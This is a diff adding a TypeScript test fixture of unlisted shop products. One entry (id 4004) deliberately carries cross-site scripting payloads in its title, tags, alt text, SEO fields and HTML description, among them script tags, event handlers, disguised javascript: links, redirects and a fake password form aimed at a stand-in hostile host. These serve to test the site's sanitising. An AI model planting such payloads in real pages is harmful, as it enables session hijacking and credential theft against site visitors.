@@ -1,0 +1,77 @@
+import { onlyVariant, type CatalogueProduct } from './catalogue-product.ts';
+
+/** Products the shop has and a visitor must not find in its lists, by their tags. */
+export const unlisted: CatalogueProduct[] = [
+  {
+    id: 4001,
+    handle: 'founders-flock-box',
+    title: 'Founders’ Flock Box',
+    productType: 'Drink',
+    tags: ['gift', 'hidden'],
+    collections: ['drinks'],
+    pictures: [
+      {
+        file: 'pack-classic-lime',
+        altText: 'A carton of Classic Lime with a rubber duck beside it',
+      },
+    ],
+    option: 'Title',
+    variants: onlyVariant('RD-FOUNDERS', 4900, 60),
+    createdAt: '2025-07-01T09:00:00Z',
+    descriptionHtml:
+      '<p>A thank-you for the people who bought the first hundred cases. You have the link because you are one of them.</p>',
+  },
+  {
+    id: 4002,
+    handle: 'staff-tasting-kit',
+    title: 'Staff Tasting Kit',
+    productType: 'Merch',
+    tags: ['internal'],
+    collections: ['merch'],
+    pictures: [{ file: 'merch-tote', altText: 'A white canvas tote bag with the duck on a wave' }],
+    option: 'Title',
+    variants: onlyVariant('RD-STAFF', 100, 40),
+    createdAt: '2025-07-01T09:10:00Z',
+    descriptionHtml: '<p>Twelve unmarked cans and a score sheet. Be kind, be exact, sign it.</p>',
+  },
+  {
+    id: 4003,
+    handle: 'distributor-display-stand',
+    title: 'Distributor Display Stand',
+    productType: 'Wholesale',
+    tags: ['distributor', 'wholesale'],
+    collections: ['wholesale'],
+    pictures: [{ file: 'merch-duck', altText: 'A yellow rubber duck with an orange bill' }],
+    option: 'Title',
+    variants: onlyVariant('RD-STAND', 24900, 12),
+    createdAt: '2025-07-01T09:20:00Z',
+    descriptionHtml:
+      '<p>A cardboard pond, five feet tall, for stores that order by the pallet. Folds flat.</p>',
+  },
+  {
+    // What an editor's account in the wrong hands could write: the site must show it as words.
+    id: 4004,
+    handle: 'hostile-title',
+    title: '</script><img src=x onerror="window.pwned=1">',
+    productType: 'Test',
+    tags: ['hidden', '"><script>window.pwned=1</script>'],
+    collections: [],
+    pictures: [{ file: 'merch-duck', altText: '"><img src=x onerror="window.pwned=1">' }],
+    option: 'Title',
+    variants: onlyVariant('RD-HOSTILE', 666, 5),
+    seo: {
+      title: '</title><script>window.pwned=1</script>',
+      description: '"><script>window.pwned=1</script>',
+    },
+    createdAt: '2025-07-01T09:30:00Z',
+    descriptionHtml: `<p style="position:fixed;inset:0;background:red" onclick="window.pwned=1">This paragraph must stay, its style and its click must not.</p>
+<script>window.pwned=1</script>
+<img src="x" onerror="window.pwned=1">
+<a href="javascript:window.pwned=1">a javascript link</a> <a href="java&#x0A;script:window.pwned=1">a folded one</a> <a href="data:text/html,&lt;script&gt;window.pwned=1&lt;/script&gt;">a data link</a>
+<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>
+<style>body { display: none !important }</style>
+<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>
+<svg onload="window.pwned=1"><use href="#x"></use></svg><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
+<p id="location" name="cookie">Still <strong>bold</strong> at the end.</p>`,
+  },
+];
